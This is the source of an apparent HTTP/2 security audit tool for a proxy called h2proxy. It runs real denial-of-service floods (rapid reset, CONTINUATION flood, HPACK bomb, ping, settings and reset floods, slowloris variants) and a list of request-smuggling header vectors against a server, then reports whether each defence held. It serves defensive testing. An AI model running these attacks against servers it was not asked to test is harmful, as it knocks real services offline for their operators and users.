"""h2proxy-audit: attack your own HTTP/2 server and see what holds.

Runs the HTTP/2 denial-of-service patterns and the HTTP/2-to-HTTP/1.1 smuggling
vectors that h2proxy defends against (docs/security.md) against a server at a
given address, and prints one line per attack: PASS when the server defended
itself as documented (closed the abusive connection, refused the stream, timed the
slow client out) and still served a normal request on a new connection right
after, FAIL otherwise, with the h2proxy option that governs the defence::

    python -m h2proxy_tools.audit https://127.0.0.1:8443
    h2proxy-audit http://[::1]:8080 --large-path /big.iso --only rapid-reset,ping-flood

Only point it at servers you run: the attacks are real (bounded in count and
time, but real). Addresses other than loopback need ``--i-own-this-server``.

Every attack speaks raw frames on a blocking socket (hyperframe and hpack, which
come with h2), so it can do what a well-behaved client library refuses to. The
same functions drive h2proxy's own end-to-end attack tests, which add what only
the test can see: the worker's memory and the backend's request log.
"""

from __future__ import annotations

import argparse
import ipaddress
import select
import socket
import ssl
import sys
import time
from dataclasses import dataclass, field, replace
from typing import Callable, Iterable, Sequence
from urllib.parse import urlsplit

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

#: RFC 9113 7 error codes the report names.
ERROR_NAMES = {
    0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
    0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED",
}
ENHANCE_YOUR_CALM = 0xB
PROTOCOL_ERROR = 0x1
CANCEL = 0x8

#: SETTINGS identifiers used here.
INITIAL_WINDOW_SIZE = 0x4
ENABLE_PUSH = 0x2

#: Largest frame payload a client may send before SETTINGS say more (RFC 9113 4.2).
DEFAULT_MAX_FRAME = 16384

#: Bytes written to the socket at once while flooding (the server's answer is
#: looked for between two batches).
BATCH_BYTES = 64 * 1024

#: Frames kept for inspection per connection (counters keep the rest).
MAX_KEPT_FRAMES = 1000

#: Seconds a normal request may take after an attack for the server to count as healthy.
HEALTH_TIMEOUT = 5.0


@dataclass(frozen=True)
class Target:
    """Where to attack, and what a harmless request and a large response are there.

    @ivar authority: the ``:authority`` sent (and the SNI name).
    @ivar path: a path that answers a GET quickly (the health check).
    @ivar largePath: a path whose response is large (several MiB), for the
        attacks that need the server to have something to send.
    @ivar hold: the longest time an attack waits for a timeout-based defence.
    """

    host: str
    port: int
    tls: bool
    authority: str
    path: str = "/"
    largePath: str = "/"
    timeout: float = 10.0
    hold: float = 75.0

    @classmethod
    def fromURL(cls, url: str, **overrides) -> "Target":
        parts = urlsplit(url)
        if parts.scheme not in ("http", "https") or not parts.hostname:
            raise ValueError(f"expected http://host:port or https://host:port, got {url!r}")
        port = parts.port or (443 if parts.scheme == "https" else 80)
        authority = parts.netloc.rpartition("@")[2]
        return cls(host=parts.hostname, port=port, tls=parts.scheme == "https", authority=authority,
                   path=parts.path or "/", **overrides)

    @property
    def isLoopback(self) -> bool:
        try:
            return ipaddress.ip_address(self.host).is_loopback
        except ValueError:
            return self.host == "localhost"


@dataclass
class Outcome:
    """What one attack observed.

    @ivar sent: attack units written (pairs, frames, requests) before the server
        stopped the attack or the attack ran out.
    @ivar goaway: the error code of the server's GOAWAY, if one came.
    @ivar closed: the server closed (or reset) the connection.
    @ivar elapsed: seconds from the start of the attack to its end.
    """

    attack: str
    option: str
    passed: bool = False
    observed: str = ""
    sent: int = 0
    goaway: int | None = None
    closed: bool = False
    elapsed: float = 0.0
    statuses: dict[int, int] = field(default_factory=dict)
    resets: dict[int, int] = field(default_factory=dict)
    healthy: bool | None = None
    details: dict[str, str] = field(default_factory=dict)


class RawConnection:
    """One HTTP/2 connection spoken frame by frame.

    It keeps its HPACK contexts in step with the server, acknowledges SETTINGS,
    records status, body size, resets and GOAWAY per stream, and (with
    C{autoCredit}) returns flow-control credit for what it reads.
    """

    def __init__(self, target: Target, recvBuffer: int | None = None, autoCredit: bool = True) -> None:
        self.target = target
        self.autoCredit = autoCredit
        raw = socket.create_connection((target.host, target.port), timeout=target.timeout)
        if recvBuffer is not None:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, recvBuffer)
        if target.tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname=urlsplit("//" + target.authority).hostname)
        self.sock = raw
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.decoder.max_header_list_size = 1 << 24
        self.nextStream = 1
        self.serverSettings = False
        self.closed = False
        self.goaway: GoAwayFrame | None = None
        self.statuses: dict[int, int] = {}
        self.bodies: dict[int, int] = {}
        self.ended: set[int] = set()
        self.resets: dict[int, int] = {}
        self.frames: list[Frame] = []
        self.received = 0
        self._buffer = bytearray()
        self._block: tuple[int, bytearray] | None = None

    # -- writing -----------------------------------------------------------------

    def start(self, settings: dict[int, int] | None = None) -> None:
        """The client preface and our SETTINGS."""
        self.send(PREFACE + SettingsFrame(0, settings={ENABLE_PUSH: 0, **(settings or {})}).serialize())

    def send(self, data: bytes) -> bool:
        """Write everything; C{False} once the server has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError):
            self.closed = True
            return False
        return True

    def flood(self, pieces: Iterable[bytes], count: int) -> int:
        """Write C{count} pieces in large batches, reading between batches (so the
        server is never blocked writing to us); stop as soon as the server answers
        with GOAWAY or closes. Returns how many pieces were written."""
        sent = 0
        batch: list[bytes] = []
        size = 0
        for piece in pieces:
            if sent + len(batch) >= count:
                break
            batch.append(piece)
            size += len(piece)
            if size >= BATCH_BYTES:
                if not self._writeBatch(batch):
                    return sent
                sent += len(batch)
                batch, size = [], 0
        if batch and self._writeBatch(batch):
            sent += len(batch)
        return sent

    def _writeBatch(self, batch: list[bytes]) -> bool:
        if not self.send(b"".join(batch)):
            return False
        self.poll(0)
        return self.goaway is None and not self.closed

    def streamID(self) -> int:
        streamID = self.nextStream
        self.nextStream += 2
        return streamID

    def requestFields(self, path: str | None = None, method: str = "GET",
                      extra: Sequence[tuple[bytes, bytes]] = ()) -> list[tuple[bytes, bytes]]:
        scheme = b"https" if self.target.tls else b"http"
        return [(b":method", method.encode()), (b":scheme", scheme),
                (b":authority", self.target.authority.encode()),
                (b":path", (path or self.target.path).encode()), *extra]

    def headers(self, streamID: int, fields: Sequence[tuple[bytes, bytes]], endStream: bool = True,
                endHeaders: bool = True) -> bytes:
        frame = HeadersFrame(streamID)
        frame.data = self.encoder.encode(list(fields))
        if endStream:
            frame.flags.add("END_STREAM")
        if endHeaders:
            frame.flags.add("END_HEADERS")
        return frame.serialize()

    def request(self, path: str | None = None, method: str = "GET",
                extra: Sequence[tuple[bytes, bytes]] = (), endStream: bool = True) -> int:
        streamID = self.streamID()
        self.send(self.headers(streamID, self.requestFields(path, method, extra), endStream))
        return streamID

    # -- reading -----------------------------------------------------------------

    def poll(self, timeout: float) -> bool:
        """Wait up to C{timeout} seconds (0: not at all) for something to read, then
        read all that is there; return whether anything was read."""
        got = False
        deadline = time.monotonic() + timeout
        while not self.closed:
            if not (self.target.tls and self.sock.pending()):
                wait = 0.0 if got else max(0.0, deadline - time.monotonic())
                ready, _, _ = select.select([self.sock], [], [], wait)
                if not ready:
                    return got
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.closed = True
                return got
            got = True
            self._feed(data)
        return got

    def waitFor(self, condition: Callable[[], bool], timeout: float) -> bool:
        """Read until C{condition()} holds, the connection closes or C{timeout} passes."""
        deadline = time.monotonic() + timeout
        while not condition():
            remaining = deadline - time.monotonic()
            if remaining <= 0 or self.closed:
                return condition()
            self.poll(min(remaining, 0.5))
        return True

    def finished(self, streamID: int) -> bool:
        return streamID in self.ended or streamID in self.resets or self.goaway is not None

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass
        self.closed = True

    def _feed(self, data: bytes) -> None:
        self.received += len(data)
        buffer = self._buffer
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer)[:9])
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer)[9 : 9 + length])
            del buffer[: 9 + length]
            self._handle(frame)

    def _handle(self, frame: Frame) -> None:
        if len(self.frames) < MAX_KEPT_FRAMES:
            self.frames.append(frame)
        if isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self._headerFragment(frame)
        elif isinstance(frame, DataFrame):
            self.bodies[frame.stream_id] = self.bodies.get(frame.stream_id, 0) + len(frame.data)
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
            if self.autoCredit and frame.flow_controlled_length:
                self.send(WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize()
                          + WindowUpdateFrame(frame.stream_id, window_increment=frame.flow_controlled_length).serialize())
        elif isinstance(frame, RstStreamFrame):
            self.resets[frame.stream_id] = frame.error_code
        elif isinstance(frame, GoAwayFrame):
            self.goaway = frame
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.serverSettings = True
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def _headerFragment(self, frame: HeadersFrame | ContinuationFrame) -> None:
        if isinstance(frame, HeadersFrame):
            self._block = (frame.stream_id, bytearray(frame.data))
            if "END_STREAM" in frame.flags:
                self.ended.add(frame.stream_id)
        elif self._block is not None:
            self._block[1].extend(frame.data)
        if "END_HEADERS" in frame.flags and self._block is not None:
            streamID, block = self._block
            self._block = None
            fields = self.decoder.decode(bytes(block), raw=True)
            status = dict(fields).get(b":status")
            if status is not None and not status.startswith(b"1"):
                self.statuses[streamID] = int(status)


# -- helpers shared by the attacks -------------------------------------------------------


def connect(target: Target, settings: dict[int, int] | None = None, **kw) -> RawConnection:
    connection = RawConnection(target, **kw)
    connection.start(settings)
    return connection


def settled(target: Target) -> RawConnection:
    """A connection whose server SETTINGS are read and acknowledged, so that no
    ACK of ours can land inside a header block the attack leaves open."""
    connection = connect(target)
    connection.waitFor(lambda: connection.serverSettings, target.timeout)
    return connection


#: How long a flood waits for the server's verdict (GOAWAY or close) once it has written
#: everything: a busy server may still be working through what it read.
VERDICT_WAIT = 5.0


def ended(outcome: Outcome, connection: RawConnection, started: float, awaitEnd: float = 0.0) -> Outcome:
    """Copy what the connection saw into the outcome. With C{awaitEnd}, first read for
    up to that many seconds until the server sends GOAWAY or closes (a flood's verdict
    may come several reads after the last frame was written)."""
    if awaitEnd:
        connection.waitFor(lambda: connection.goaway is not None or connection.closed, awaitEnd)
    connection.poll(0.2)
    outcome.goaway = connection.goaway.error_code if connection.goaway is not None else None
    outcome.closed = connection.closed
    outcome.statuses = dict(connection.statuses)
    outcome.resets = dict(connection.resets)
    outcome.elapsed = time.monotonic() - started
    connection.close()
    return outcome


def describeEnd(outcome: Outcome) -> str:
    if outcome.goaway is not None:
        return f"GOAWAY {ERROR_NAMES.get(outcome.goaway, hex(outcome.goaway))}"
    if outcome.closed:
        return "connection closed"
    return "connection still open"


def stoppedByServer(outcome: Outcome, unit: str, count: int, expectCalm: bool = True) -> Outcome:
    """The usual verdict of a flood: the server ended the connection (with GOAWAY
    ENHANCE_YOUR_CALM when C{expectCalm} and it sent a GOAWAY at all)."""
    stopped = outcome.goaway is not None or outcome.closed
    if expectCalm and outcome.goaway is not None:
        stopped = outcome.goaway == ENHANCE_YOUR_CALM
    outcome.passed = stopped
    outcome.observed = f"{describeEnd(outcome)}; {outcome.sent} of {count} {unit} written"
    return outcome


def repeated(piece: bytes) -> Iterable[bytes]:
    while True:
        yield piece


# -- HTTP/2 abuse ---------------------------------------------------------------------------


def rapidReset(target: Target, pairs: int = 20_000) -> Outcome:
    """CVE-2023-44487: HEADERS immediately followed by RST_STREAM, in bulk."""
    outcome = Outcome("rapid-reset", "http2.reset_budget")
    started = time.monotonic()
    connection = connect(target)
    fields = connection.requestFields(extra=[(b"x-audit", b"rapid-reset")])

    def pieces() -> Iterable[bytes]:
        # The first block puts the fields in the HPACK table; every later one is the
        # same few bytes of indexes, so the block is encoded twice, not per pair.
        block = b""
        while True:
            streamID = connection.streamID()
            if streamID <= 3:
                block = connection.encoder.encode(fields)
            frame = HeadersFrame(streamID, data=block, flags=["END_STREAM", "END_HEADERS"])
            yield frame.serialize() + RstStreamFrame(streamID, error_code=CANCEL).serialize()

    outcome.sent = connection.flood(pieces(), pairs)
    lastStream = connection.goaway.last_stream_id if connection.goaway is not None else None
    stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "HEADERS+RST_STREAM pairs", pairs)
    if lastStream is not None:
        outcome.observed += f" (the server took up to stream {lastStream}: {(lastStream + 1) // 2} pairs)"
    return outcome


def continuationFlood(target: Target, frames: int = 10_000) -> Outcome:
    """The 2024 CONTINUATION flood: a header block that never ends."""
    outcome = Outcome("continuation-flood", "http2.max_continuation_frames")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    fragment = ContinuationFrame(streamID, data=Encoder().encode([(b"x-flood", b"a" * 8)]))
    outcome.sent = connection.flood(repeated(fragment.serialize()), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "CONTINUATION frames", frames)


def headerBlockSize(target: Target, frames: int = 64) -> Outcome:
    """A header block of full-size CONTINUATION frames (megabytes before END_HEADERS)."""
    outcome = Outcome("header-block-size", "http2.max_header_list_size")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    fragment = ContinuationFrame(streamID, data=b"\x00" * DEFAULT_MAX_FRAME)
    outcome.sent = connection.flood(repeated(fragment.serialize()), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "16 KiB CONTINUATION frames", frames)


def hpackBomb(target: Target, references: int = 4000) -> Outcome:
    """A 4 KB field put in the HPACK table once, then referenced thousands of
    times by one-byte indexes: megabytes of decoded headers from a small block."""
    outcome = Outcome("hpack-bomb", "http2.max_header_list_size")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.streamID()
    fields = connection.requestFields(extra=[(b"x-bomb", b"b" * 4000)])
    block = connection.encoder.encode(fields) + b"\xbe" * references  # index 62: the x-bomb entry
    frames = blockFrames(streamID, block)
    connection.send(frames)
    connection.waitFor(lambda: connection.finished(streamID), target.timeout)
    ended(outcome, connection, started)
    status = outcome.statuses.get(streamID)
    outcome.sent = 1
    outcome.passed = status in (431, 400) or streamID in outcome.resets or outcome.goaway is not None
    outcome.observed = _streamVerdict(outcome, streamID)
    return outcome


def dataDribble(target: Target, streams: int = 50, rounds: int = 200) -> Outcome:
    """CVE-2019-9511: large responses on many streams pulled out one byte of window
    at a time: each round gives every stream one byte, once the previous round's
    bytes have arrived."""
    outcome = Outcome("data-dribble", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target, settings={INITIAL_WINDOW_SIZE: 1}, autoCredit=False)
    ids = [connection.request(target.largePath) for _ in range(streams)]

    def received() -> int:
        return sum(connection.bodies.get(streamID, 0) for streamID in ids)

    connection.waitFor(lambda: received() >= streams or connection.goaway is not None, target.timeout)
    piece = b"".join(WindowUpdateFrame(streamID, window_increment=1).serialize() for streamID in ids)
    piece += WindowUpdateFrame(0, window_increment=streams).serialize()
    while outcome.sent < rounds and connection.goaway is None and not connection.closed:
        before = received()
        if not connection.send(piece):
            break
        outcome.sent += 1
        if not connection.waitFor(lambda: received() > before or connection.goaway is not None, target.timeout):
            break
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), f"rounds of 1-byte WINDOW_UPDATEs on {streams} streams", rounds)


def pingFlood(target: Target, pings: int = 2_000_000) -> Outcome:
    """CVE-2019-9512: PINGs from a client that never reads the ACKs."""
    outcome = Outcome("ping-flood", "http2.max_control_buffer")
    started = time.monotonic()
    connection = connect(target, recvBuffer=4096)
    piece = PingFrame(0, opaque_data=b"auditing").serialize()
    outcome.sent = _floodWithoutReading(connection, piece, pings)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "PINGs", pings, expectCalm=False)


def settingsFlood(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9515: SETTINGS frames, each of which the server must apply and ACK."""
    outcome = Outcome("settings-flood", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    pieces = (SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65535 + (i & 1)}).serialize() for i in range(frames))
    outcome.sent = connection.flood(pieces, frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "SETTINGS frames", frames)


def priorityChurn(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9513 (resource loop): PRIORITY frames shuffling a dependency tree."""
    outcome = Outcome("priority-churn", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    ids = [1001 + 2 * i for i in range(64)]
    pieces = (
        PriorityFrame(ids[i % 64], depends_on=ids[(i * 7 + 1) % 64], stream_weight=i & 0xFF, exclusive=bool(i & 1)).serialize()
        for i in range(frames)
    )
    outcome.sent = connection.flood(pieces, frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "PRIORITY frames", frames)


def resetFlood(target: Target, requests: int = 20_000) -> Outcome:
    """CVE-2019-9514: invalid requests that the server answers with RST_STREAM,
    from a client that does not read them."""
    outcome = Outcome("reset-flood", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target, recvBuffer=4096)
    fields = connection.requestFields(extra=[(b"X-Invalid", b"uppercase name")])

    def pieces() -> Iterable[bytes]:
        while True:
            yield connection.headers(connection.streamID(), fields)

    outcome.sent = connection.flood(pieces(), requests)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "invalid requests", requests)


def zeroLengthHeaders(target: Target, requests: int = 5000) -> Outcome:
    """CVE-2019-9516: requests made of header fields with empty names and values."""
    outcome = Outcome("zero-length-headers", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    fields = connection.requestFields(extra=[(b"", b"")] * 100)

    def pieces() -> Iterable[bytes]:
        while True:
            yield connection.headers(connection.streamID(), fields)

    outcome.sent = connection.flood(pieces(), requests)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "requests with empty fields", requests)


def windowNoRead(target: Target, streams: int = 50) -> Outcome:
    """CVE-2019-9517: windows wide open, large responses asked for, socket never
    read: the server must not buffer without bound, and must let go in time."""
    outcome = Outcome("window-no-read", "timeouts.send")
    started = time.monotonic()
    connection = connect(target, settings={INITIAL_WINDOW_SIZE: 2**31 - 1}, recvBuffer=4096, autoCredit=False)
    connection.send(WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535).serialize())
    for _ in range(streams):
        connection.request(target.largePath)
    outcome.sent = streams
    deadline = time.monotonic() + target.hold
    while time.monotonic() < deadline and not _peerGone(connection):
        time.sleep(0.25)
    ended(outcome, connection, started)
    outcome.passed = outcome.closed
    outcome.observed = f"{describeEnd(outcome)} after {outcome.elapsed:.1f}s unread"
    return outcome


def emptyFrames(target: Target, frames: int = 20_000) -> Outcome:
    """CVE-2019-9518: empty DATA frames on an open request."""
    outcome = Outcome("empty-frames", "http2.glitch_budget")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.request(method="POST", endStream=False, extra=[(b"x-audit", b"empty-frames")])
    piece = DataFrame(streamID, data=b"").serialize()
    outcome.sent = connection.flood(repeated(piece), frames)
    return stoppedByServer(ended(outcome, connection, started, awaitEnd=VERDICT_WAIT), "empty DATA frames", frames)


# -- slow clients -----------------------------------------------------------------------------


def slowHandshake(target: Target) -> Outcome:
    """A client that connects and says nothing (no TLS handshake, no preface)."""
    outcome = Outcome("slow-handshake", "timeouts.handshake")
    started = time.monotonic()
    sock = socket.create_connection((target.host, target.port), timeout=target.timeout)
    try:
        outcome.closed = _waitClosed(sock, target.hold)
    finally:
        sock.close()
    outcome.elapsed = time.monotonic() - started
    outcome.passed = outcome.closed
    outcome.observed = f"closed after {outcome.elapsed:.1f}s" if outcome.closed else f"open after {target.hold:.0f}s"
    return outcome


def slowHeaders(target: Target) -> Outcome:
    """Slowloris on HTTP/2: the preface, then a header block that never completes."""
    outcome = Outcome("slow-headers", "timeouts.request_header")
    started = time.monotonic()
    connection = settled(target)
    streamID = connection.streamID()
    connection.send(connection.headers(streamID, connection.requestFields(), endHeaders=False))
    connection.waitFor(lambda: connection.closed, target.hold)
    ended(outcome, connection, started)
    outcome.passed = outcome.closed
    outcome.observed = f"{describeEnd(outcome)} after {outcome.elapsed:.1f}s"
    return outcome


def slowBody(target: Target) -> Outcome:
    """A request that announces a body and then sends almost none of it."""
    outcome = Outcome("slow-body", "timeouts.request_body")
    started = time.monotonic()
    connection = connect(target)
    streamID = connection.request(
        method="POST", endStream=False, extra=[(b"content-length", b"1000"), (b"x-audit", b"slow-body")]
    )
    connection.send(DataFrame(streamID, data=b"0123456789").serialize())
    connection.waitFor(lambda: connection.finished(streamID), target.hold)
    ended(outcome, connection, started)
    outcome.sent = 1
    outcome.passed = outcome.statuses.get(streamID) == 408 or streamID in outcome.resets or outcome.closed
    outcome.observed = _streamVerdict(outcome, streamID) + f" after {outcome.elapsed:.1f}s"
    return outcome


def connectionFlood(target: Target, connections: int) -> Outcome:
    """Idle connections up to (and past) the server's cap, then one more that must
    still be served (idle ones closed first) or refused politely."""
    outcome = Outcome("connection-flood", "limits.max_connections")
    started = time.monotonic()
    held: list[RawConnection] = []
    try:
        for _ in range(connections):
            try:
                held.append(connect(target))
            except OSError:
                break
        outcome.sent = len(held)
        outcome.passed = healthCheck(target)
        closedByServer = sum(1 for c in held if _peerGone(c))
        outcome.observed = (
            f"{len(held)} idle connections opened, {closedByServer} closed by the server; "
            f"a new request {'was' if outcome.passed else 'was not'} served"
        )
    finally:
        for connection in held:
            connection.close()
    outcome.elapsed = time.monotonic() - started
    return outcome


# -- smuggling on the HTTP/2 -> HTTP/1.1 downgrade ---------------------------------------

#: name -> the fields of a request that an HTTP/1.1 backend could read two ways.
#: Pseudo-headers given here replace the normal ones.
SMUGGLING_VECTORS: dict[str, list[tuple[bytes, bytes]]] = {
    "CR in a value": [(b"x-test", b"a\rb")],
    "LF in a value": [(b"x-test", b"a\nx-injected: 1")],
    "NUL in a value": [(b"x-test", b"a\x00b")],
    "CRLF in a name": [(b"x-a\r\nx-injected", b"1")],
    "colon in a name": [(b"x-a:b", b"1")],
    "space in a name": [(b"x a", b"1")],
    "uppercase name": [(b"X-Upper", b"1")],
    "empty name": [(b"", b"1")],
    "transfer-encoding": [(b"transfer-encoding", b"chunked")],
    "connection": [(b"connection", b"close")],
    "keep-alive": [(b"keep-alive", b"timeout=5")],
    "proxy-connection": [(b"proxy-connection", b"keep-alive")],
    "upgrade": [(b"upgrade", b"websocket")],
    "te other than trailers": [(b"te", b"gzip")],
    "content-length not a number": [(b"content-length", b"1x")],
    "content-length negative": [(b"content-length", b"-1")],
    "content-length twice, different": [(b"content-length", b"1"), (b"content-length", b"2")],
    "content-length on a bodiless request": [(b"content-length", b"10")],
    "CR in :path": [(b":path", b"/a\r\nx: y")],
    "space in :path": [(b":path", b"/a b HTTP/1.1")],
    ":path without /": [(b":path", b"a")],
    ":path * for GET": [(b":path", b"*")],
    "space in :method": [(b":method", b"GET /x")],
    "duplicated :path": [(b":path", b"/"), (b":path", b"/other")],
    "duplicated :method": [(b":method", b"GET"), (b":method", b"POST")],
    "missing :path": [(b":path", None)],  # type: ignore[list-item]
    "missing :method": [(b":method", None)],  # type: ignore[list-item]
    "unknown pseudo-header": [(b":protocol", b"websocket")],
    "pseudo-header after a field": [(b"x-first", b"1"), (b":foo", b"bar")],
    ":authority with userinfo": [(b":authority", b"user@host")],
    "host conflicting with :authority": [(b"host", b"other.example")],
}


def smuggling(target: Target, vectors: dict[str, list] | None = None) -> Outcome:
    """Every smuggling vector on its own stream: each must be refused (RST_STREAM
    or 400), never answered as a request the backend saw."""
    outcome = Outcome("smuggling", "(always on)")
    started = time.monotonic()
    vectors = vectors if vectors is not None else SMUGGLING_VECTORS
    connection = connect(target)
    results: dict[str, str] = {}
    accepted: list[str] = []
    for name, fields in vectors.items():
        if connection.closed or connection.goaway is not None:
            connection.close()
            connection = connect(target)
        streamID = connection.streamID()
        connection.send(connection.headers(streamID, smugglingFields(connection, fields)))
        connection.waitFor(lambda: connection.finished(streamID), target.timeout)
        status = connection.statuses.get(streamID)
        if streamID in connection.resets:
            results[name] = f"RST_STREAM {ERROR_NAMES.get(connection.resets[streamID])}"
        elif status == 400:
            results[name] = "400"
        elif connection.goaway is not None:
            results[name] = describeEnd(replace(outcome, goaway=connection.goaway.error_code))
        else:
            results[name] = f"status {status}"
            accepted.append(name)
        outcome.sent += 1
    connection.close()
    outcome.elapsed = time.monotonic() - started
    outcome.passed = not accepted
    outcome.observed = (
        f"all {len(vectors)} vectors refused" if not accepted else "accepted: " + ", ".join(accepted)
    )
    outcome.details = results
    return outcome


def smugglingFields(connection: RawConnection, vector: list[tuple[bytes, bytes | None]]) -> list[tuple[bytes, bytes]]:
    """A normal request with the vector's fields: pseudo-headers replace (or, with
    C{None}, remove) the normal ones, the first time they are named; others are added."""
    base = connection.requestFields(extra=[(b"x-audit", b"smuggling")])
    pseudo = [(n, v) for n, v in base if n.startswith(b":")]
    regular = [(n, v) for n, v in base if not n.startswith(b":")]
    replaced: set[bytes] = set()
    extraPseudo: list[tuple[bytes, bytes]] = []
    trailing: list[tuple[bytes, bytes]] = []
    seenRegular = False
    for name, value in vector:
        if name.startswith(b":") and not seenRegular:
            if name in dict(pseudo) and name not in replaced:
                replaced.add(name)
                pseudo = [(n, v) for n, v in pseudo if n != name] + ([(name, value)] if value is not None else [])
            elif value is not None:
                extraPseudo.append((name, value))
        else:
            seenRegular = seenRegular or not name.startswith(b":")
            trailing.append((name, value))  # type: ignore[arg-type]
    return [*pseudo, *extraPseudo, *regular, *trailing]


# -- running the audit --------------------------------------------------------------------


def healthCheck(target: Target) -> bool:
    """A normal GET on a new connection is answered (any status below 500) in time."""
    try:
        connection = connect(target)
    except OSError:
        return False
    try:
        streamID = connection.request()
        connection.waitFor(lambda: streamID in connection.ended or connection.finished(streamID), HEALTH_TIMEOUT)
        status = connection.statuses.get(streamID)
        return status is not None and status < 500 and streamID in connection.ended
    finally:
        connection.close()


@dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[Target], Outcome]
    slow: bool = False
    tlsOnly: bool = False


ATTACKS: tuple[Attack, ...] = (
    Attack("rapid-reset", rapidReset),
    Attack("continuation-flood", continuationFlood),
    Attack("header-block-size", headerBlockSize),
    Attack("hpack-bomb", hpackBomb),
    Attack("data-dribble", dataDribble),
    Attack("ping-flood", pingFlood),
    Attack("settings-flood", settingsFlood),
    Attack("priority-churn", priorityChurn),
    Attack("reset-flood", resetFlood),
    Attack("zero-length-headers", zeroLengthHeaders),
    Attack("empty-frames", emptyFrames),
    Attack("smuggling", smuggling),
    Attack("slow-handshake", slowHandshake, slow=True),
    Attack("slow-headers", slowHeaders, slow=True),
    Attack("slow-body", slowBody, slow=True),
    Attack("window-no-read", windowNoRead, slow=True),
)


def runAudit(target: Target, attacks: Sequence[Attack], report: Callable[[Outcome], None]) -> list[Outcome]:
    """Run each attack, then check the server still serves; report each outcome."""
    outcomes = []
    for attack in attacks:
        try:
            outcome = attack.run(target)
        except (OSError, ssl.SSLError) as error:
            outcome = Outcome(attack.name, "", observed=f"could not run: {error}")
        outcome.healthy = healthCheck(target)
        if not outcome.healthy:
            outcome.passed = False
            outcome.observed += "; a normal request failed afterwards"
        outcomes.append(outcome)
        report(outcome)
    return outcomes


def formatRow(outcome: Outcome) -> str:
    verdict = "PASS" if outcome.passed else "FAIL"
    return f"{outcome.attack:<22} {verdict:<5} {outcome.option:<32} {outcome.observed}"


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="h2proxy-audit", description=__doc__.splitlines()[0])
    parser.add_argument("url", help="the server: https://host:port or http://host:port (h2c), optionally with a path")
    parser.add_argument("--large-path", help="a path with a large response (MiBs), for the flow-control attacks")
    parser.add_argument("--only", help="comma-separated attack names to run (default: all)")
    parser.add_argument("--skip-slow", action="store_true", help="skip the attacks that wait for the server's timeouts")
    parser.add_argument("--hold", type=float, default=75.0, help="longest wait for a timeout-based defence (s)")
    parser.add_argument("--connections", type=int, default=0,
                        help="also open this many idle connections (more than limits.max_connections) and check a new one is served")
    parser.add_argument("--i-own-this-server", action="store_true", help="allow a target that is not a loopback address")
    args = parser.parse_args(argv)
    target = Target.fromURL(args.url, hold=args.hold)
    target = replace(target, largePath=args.large_path or target.path)
    if not target.isLoopback and not args.i_own_this_server:
        parser.error(f"{target.host} is not a loopback address: pass --i-own-this-server if you run it")
    attacks = list(ATTACKS)
    if args.only:
        wanted = {name.strip() for name in args.only.split(",")}
        unknown = wanted - {a.name for a in ATTACKS} - {"connection-flood"}
        if unknown:
